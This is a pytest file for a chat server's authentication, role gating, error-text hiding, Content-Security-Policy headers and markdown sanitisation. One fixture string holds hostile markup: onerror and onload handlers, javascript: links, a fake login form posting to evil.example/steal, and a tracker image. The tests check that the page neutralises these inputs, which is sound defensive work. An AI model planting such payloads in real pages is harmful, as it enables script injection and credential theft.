"""Who may do what on `palmchat serve` (issue 21): keys are required unless the server runs with --no-auth (loopback
only), a key's role gates the labelling queue and the admin reload, the server's own failures reach no client as
text, and the pages carry a Content-Security-Policy and render a reply's markdown through a strict allow-list.

Real servers on loopback (tests/server_fixtures.py), the `palmchat keys` command, real SQLite, real Chromium."""

from __future__ import annotations

import json
import logging
import os
import re
import shutil

import httpx
import pytest
from server_fixtures import Server, build_checkpoints, palmchat

pytestmark = pytest.mark.timeout(300)
MODEL = "tiny-chat"


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory):
    root = tmp_path_factory.mktemp("auth")
    policy, reward = build_checkpoints(root)
    return {"root": root, "policy": policy, "reward": reward}


def create_key(db, *flags: str) -> str:
    """`palmchat keys create --db DB FLAGS...`; returns the secret it printed."""
    created = palmchat("keys", "create", "--db", str(db), *flags)
    assert created.returncode == 0, created.stderr
    return created.stdout.strip().splitlines()[-1]


def bearer(secret: str) -> dict:
    return {"authorization": f"Bearer {secret}"}


def error_of(response: httpx.Response, status: int) -> dict:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert set(error) == {"message", "type", "param", "code"} and error["message"]
    return error


# -- keys are required, unless --no-auth on loopback --------------------------------------------------------


def test_without_keys_every_request_gets_401_and_revoking_the_last_key_does_not_reopen(artifacts, tmp_path):
    db = tmp_path / "empty.db"
    srv = Server(artifacts["policy"], db, "--moderation", "none", log=tmp_path / "server.log").start()
    try:
        assert "holds no active API key" in srv.log()  # told at startup too
        for response in (httpx.get(srv.url + "/v1/models"), httpx.get(srv.url + "/v1/models", headers=bearer("x")),
                         httpx.post(srv.url + "/v1/chat/completions", json={
                             "model": MODEL, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 1}),
                         httpx.get(srv.url + "/v1/label/next"), httpx.post(srv.url + "/v1/admin/reload", json={})):
            message = error_of(response, 401)["message"]
            assert "palmchat keys create" in message and "--no-auth" in message
            assert response.headers["www-authenticate"] == "Bearer"

        secret = create_key(db, "--name", "only")
        assert httpx.get(srv.url + "/v1/models", headers=bearer(secret)).status_code == 200
        assert "You didn't provide an API key" in error_of(httpx.get(srv.url + "/v1/models"), 401)["message"]
        assert error_of(httpx.get(srv.url + "/v1/models", headers=bearer(secret + "x")), 401)["message"] == \
            "Incorrect API key provided."

        revoked = palmchat("keys", "revoke", "only", "--db", str(db))
        assert revoked.returncode == 0, revoked.stderr
        for headers in ({}, bearer(secret)):  # the last key gone: closed, not open to everyone
            assert "palmchat keys create" in error_of(httpx.get(srv.url + "/v1/models", headers=headers),
                                                      401)["message"]
        conversation = httpx.post(srv.url + "/v1/conversations", json={})
        error_of(conversation, 401)
    finally:
        srv.stop()


def test_no_auth_is_refused_off_loopback(artifacts, tmp_path):
    for host in ("0.0.0.0", "192.0.2.7"):
        result = palmchat("serve", str(artifacts["policy"]), "--db", str(tmp_path / "db"), "--host", host,
                          "--no-auth")
        assert result.returncode == 2, result.stderr
        assert "--no-auth is allowed only on loopback" in result.stderr and host in result.stderr
        assert "Traceback" not in result.stderr
    assert not (tmp_path / "db").exists()  # refused before anything was opened


def test_no_auth_serves_without_a_key_on_loopback(artifacts, tmp_path):
    """--no-auth: the one local person needs no key, and may use the queue (named by X-Palmchat-Labeller); the
    Host/Origin check still stands."""
    srv = Server(artifacts["policy"], tmp_path / "open.db", "--moderation", "none", log=tmp_path / "server.log",
                 no_auth=True).start()
    try:
        assert httpx.get(srv.url + "/v1/models").status_code == 200
        stats = httpx.get(srv.url + "/v1/label/stats", headers={"x-palmchat-labeller": "me"})
        assert stats.status_code == 200 and stats.json()["mine"] == 0
        assert error_of(httpx.post(srv.url + "/v1/admin/reload", json={}), 400)["param"] == "reward_model"
        port = srv.url.rsplit(":", 1)[1]
        assert error_of(httpx.get(srv.url + "/v1/models", headers={"host": f"evil.example:{port}"}),
                        403)["code"] == "forbidden_host"
    finally:
        srv.stop()


# -- roles ----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def keyed(artifacts):
    """A server with a queued prompt and one key of each role (made by `palmchat keys create`)."""
    from palmchat.feedback.exchange import import_prompts
    from palmchat.store import Store

    root = artifacts["root"]
    db = root / "roles.db"
    prompts = root / "prompts.jsonl"
    prompts.write_text(json.dumps({"prompt": "What pet does Briruul have?"}) + "\n")
    store = Store(db)
    import_prompts(store, prompts, k=2, max_tokens=4)
    store.close()
    keys = {"user": create_key(db, "--name", "ursula"),
            "labeller": create_key(db, "--name", "lena", "--role", "labeller"),
            "admin": create_key(db, "--name", "ada", "--admin")}
    srv = Server(artifacts["policy"], db, "--moderation", "none", log=root / "roles.log").start()
    srv.keys, srv.db = keys, db
    yield srv
    srv.stop()


def test_keys_list_shows_each_keys_role(keyed):
    listed = palmchat("keys", "list", "--db", str(keyed.db))
    assert listed.returncode == 0, listed.stderr
    roles = {line.split()[1]: line.split()[2] for line in listed.stdout.splitlines()}
    assert roles == {"ursula": "user", "lena": "labeller", "ada": "admin"}
    assert not any(secret in listed.stdout for secret in keyed.keys.values())
    bad = palmchat("keys", "create", "--db", str(keyed.db), "--role", "root")
    assert bad.returncode == 2 and "root" in bad.stderr
    both = palmchat("keys", "create", "--db", str(keyed.db), "--role", "labeller", "--admin")
    assert both.returncode != 0 and "--admin" in both.stderr


def test_a_user_key_may_chat_but_not_label_or_reload(keyed):
    user = bearer(keyed.keys["user"])
    assert httpx.get(keyed.url + "/v1/models", headers=user).status_code == 200
    for method, path, body, role in (("GET", "/v1/label/next", None, "labeller"),
                                     ("GET", "/v1/label/stats", None, "labeller"),
                                     ("POST", "/v1/label/tasks/task_x/ranking", {"ranking": ["a", "b"]}, "labeller"),
                                     ("POST", "/v1/admin/reload", {"reward_model": str(keyed.db)}, "admin")):
        error = error_of(httpx.request(method, keyed.url + path, json=body, headers=user), 403)
        assert error["code"] == "forbidden" and error["type"] == "permission_error"
        assert f"role '{role}'" in error["message"] and "this key's role is 'user'" in error["message"]


def test_a_labeller_key_ranks_the_queue_but_cannot_reload(keyed):
    lena = bearer(keyed.keys["labeller"])
    task = httpx.get(keyed.url + "/v1/label/next", headers=lena, timeout=60).json()["task"]
    ranking = [c["id"] for c in task["candidates"]]
    ranked = httpx.post(f"{keyed.url}/v1/label/tasks/{task['id']}/ranking", json={"ranking": ranking}, headers=lena)
    assert ranked.status_code == 200, ranked.text
    assert httpx.get(keyed.url + "/v1/label/stats", headers=lena).json()["mine"] == 1
    error = error_of(httpx.post(keyed.url + "/v1/admin/reload", json={"reward_model": "x"}, headers=lena), 403)
    assert "role 'admin'" in error["message"] and "'labeller'" in error["message"]


def test_an_admin_key_reloads_and_may_label(keyed, artifacts):
    ada = bearer(keyed.keys["admin"])
    assert httpx.get(keyed.url + "/v1/label/stats", headers=ada).status_code == 200
    swapped = httpx.post(keyed.url + "/v1/admin/reload", json={"reward_model": str(artifacts["reward"])},
                         headers=ada, timeout=120)
    assert swapped.status_code == 200, swapped.text
    assert f"{MODEL}:best-of-4" in [m["id"] for m in httpx.get(keyed.url + "/v1/models", headers=ada).json()["data"]]


# -- the loop reads its admin key from the environment or a file, never argv -----------------------------------


def test_loop_reads_the_admin_key_from_a_file_or_the_environment(tmp_path, monkeypatch):
    from palmchat.feedback.round import LoopArgs, admin_key

    key_file = tmp_path / "admin.key"
    key_file.write_text("pc-from-file\n")
    monkeypatch.setenv("MY_ADMIN_KEY", "pc-from-env")
    assert admin_key(LoopArgs(api_key_file=str(key_file), api_key_env="MY_ADMIN_KEY")) == "pc-from-file"
    assert admin_key(LoopArgs(api_key_env="MY_ADMIN_KEY")) == "pc-from-env"
    key_file.write_text("\n")
    with pytest.raises(ValueError, match="empty"):
        admin_key(LoopArgs(api_key_file=str(key_file)))
    help_text = palmchat("loop", "--help").stdout
    assert "--api-key-file" in help_text and "--api-key " not in help_text and "--admin-key" not in help_text


# -- the server's own failures reach no client as text ---------------------------------------------------------


@pytest.fixture(scope="module")
def in_process(artifacts, tmp_path_factory):
    """The app in this process (so a test can make its insides fail), under --no-auth."""
    from fastapi.testclient import TestClient

    from palmchat import checkpoint
    from palmchat.inference.scheduler import Scheduler
    from palmchat.serve.app import create_app
    from palmchat.serve.state import ServerState
    from palmchat.store import Store

    model, _, ckpt = checkpoint.load_model(artifacts["policy"])
    store = Store(tmp_path_factory.mktemp("in-process") / "db")
    state = ServerState(model_id=MODEL, tokenizer=checkpoint.load_tokenizer(ckpt), scheduler=Scheduler(model.eval()),
                        store=store, no_auth=True)
    with TestClient(create_app(state), raise_server_exceptions=False) as client:
        yield client, state
    store.close()


SECRET = "secret-path /x"


def logged_with_traceback(caplog, message: str) -> None:
    """The error id the client got is in the server's log, with the exception and its traceback."""
    error_id = message.split("error id ")[1].split(":")[0]
    assert error_id.startswith("err_")
    records = [r for r in caplog.records if error_id in r.getMessage()]
    assert records and records[0].exc_info is not None and SECRET in logging.Formatter().format(records[0])


def test_an_unexpected_exception_gives_a_500_without_its_text(in_process, monkeypatch, caplog):
    from palmchat.serve.routes import models

    client, _ = in_process

    def broken(state, model):
        raise RuntimeError(SECRET)

    monkeypatch.setattr(models, "model_card", broken)
    caplog.set_level(logging.ERROR)
    response = client.get("/v1/models")
    error = error_of(response, 500)
    assert SECRET not in response.text and "RuntimeError" not in response.text
    assert error["type"] == "server_error" and error["code"] == "internal_error"
    logged_with_traceback(caplog, error["message"])
    assert error_of(client.get("/v1/models/gpt-4o"), 404)["message"]  # a client's mistake keeps its message


def test_a_scheduler_failure_reaches_the_client_without_its_text(in_process, monkeypatch, caplog):
    """The scheduler fails the requests in flight with the exception's text (for the server's log): neither a
    plain reply nor a stream's error event passes it on."""
    client, state = in_process

    def broken():
        raise RuntimeError(SECRET)

    monkeypatch.setattr(state.scheduler.engine, "sync", broken)
    caplog.set_level(logging.ERROR)
    chat = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
    response = client.post("/v1/chat/completions", json=chat)
    assert SECRET not in response.text
    logged_with_traceback(caplog, error_of(response, 500)["message"])

    for path, body in (("/v1/chat/completions", {**chat, "stream": True}),
                       ("/v1/completions", {"model": MODEL, "prompt": "hi", "max_tokens": 2, "stream": True}),
                       ("/v1/responses", {"model": MODEL, "input": "hi", "max_output_tokens": 2, "stream": True})):
        streamed = client.post(path, json=body)
        assert streamed.status_code == 200 and SECRET not in streamed.text, streamed.text
        events = [json.loads(line[6:]) for line in streamed.text.splitlines()
                  if line.startswith("data: ") and line != "data: [DONE]"]
        errors = [e.get("error") or e for e in events if "error" in e or e.get("type") == "error"]
        assert errors and "error id err_" in errors[-1]["message"], streamed.text
        logged_with_traceback(caplog, errors[-1]["message"])


# -- the pages: Content-Security-Policy, and a reply's markdown through a strict allow-list ----------------------


def test_every_page_and_static_file_carries_a_content_security_policy(keyed):
    for path in ("/", "/label", "/static/common.js", "/static/style.css", "/static/vendor/purify.min.js",
                 "/health", "/v1/models", "/static/missing.js"):
        response = httpx.get(keyed.url + path)
        policy = response.headers.get("content-security-policy", "")
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy, (path, policy)
        assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert response.headers["x-content-type-options"] == "nosniff"
    docs = httpx.get(keyed.url + "/docs")  # FastAPI's API reference: its inline script and CDN files, no framing
    assert docs.status_code == 200 and "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    for page in ("/", "/label"):  # the pages hold no inline script or style the policy would block
        html = httpx.get(keyed.url + page).text
        assert not re.search(r"<script(?![^>]*\bsrc=)|\son[a-z]+=|<style|\sstyle=", html)


HOSTILE = """Here you go.

<img src=x onerror="window.pwned = 'img'">
<form action="https://evil.example/steal"><input name="q" value="password"><button>Log in</button></form>
<style>body { display: none; }</style>
<svg onload="window.pwned = 'svg'"><circle r="5"/></svg>
[click me](javascript:window.pwned='link') and [also](JaVaScRiPt:alert(1)) and [data](data:text/html;base64,eA==)
![tracker](https://evil.example/pixel.png)

A [good link](https://example.com/docs "docs"), **bold**, `code`, and a list:

1. one
2. two

| a | b |
|---|---|
| 1 | 2 |
"""


def test_the_chat_page_renders_a_hostile_reply_as_plain_markdown(keyed):
    """A stored reply whose markdown holds an image with onerror, a form, a style, an SVG and javascript: links:
    the page shows none of them (nor runs anything), and what markdown should give (links, lists, tables) stays."""
    chromium = shutil.which("chromium")
    if chromium is None:
        if os.environ.get("CI"):
            pytest.fail("Debian's chromium is not installed (`make test` installs it: apt-get install chromium)")
        pytest.skip("Debian's chromium is not installed (`make test` installs it: apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is in the dev extra")
    key = keyed.keys["user"]
    conversation = httpx.post(keyed.url + "/v1/conversations", headers=bearer(key), json={
        "metadata": {"title": "hostile"}, "items": [
            {"type": "message", "role": "user", "content": "Show me."},
            {"type": "message", "role": "assistant", "content": HOSTILE}]})
    assert conversation.status_code == 200, conversation.text
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        try:
            context = browser.new_context()
            context.add_init_script(f"localStorage.setItem('palmchat.apiKey', {json.dumps(key)});")
            page = context.new_page()
            outside, errors = [], []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("console", lambda m: m.type == "error" and errors.append((m.text, m.location["url"])))
            page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(keyed.url + "/")
                       else (outside.append(route.request.url), route.abort()))
            page.goto(f"{keyed.url}/?c={conversation.json()['id']}")
            page.wait_for_selector(".message.assistant .body table")
            body = page.query_selector(".message.assistant .body")
            for tag in ("img", "form", "input", "button", "style", "svg", "script", "iframe"):
                assert body.query_selector(tag) is None, (tag, body.inner_html())
            links = body.eval_on_selector_all("a", "as => as.map(a => [a.getAttribute('href'), a.target, a.rel])")
            assert [href for href, _, _ in links if href] == ["https://example.com/docs"], links
            assert ["https://example.com/docs", "_blank", "noopener noreferrer"] in links
            attributes = body.eval_on_selector_all("*", "es => es.flatMap(e => [...e.attributes].map(a => a.name))")
            assert set(attributes) <= {"href", "title", "target", "rel", "start", "align"}, attributes
            assert body.query_selector("ol li") and body.query_selector("strong") and body.query_selector("code")
            assert page.evaluate("window.pwned") is None and page.is_visible("#messages")  # the style did not apply
            assert not outside, outside  # the tracker image was never requested
            # the only console errors: the policy refusing the hostile style and handlers as the sanitiser parses them
            # (in a document of its own, which runs nothing); nothing the page itself needs was blocked
            assert all("Content Security Policy" in text and url.endswith("/static/vendor/purify.min.js")
                       for text, url in errors), errors
        finally:
            browser.close()
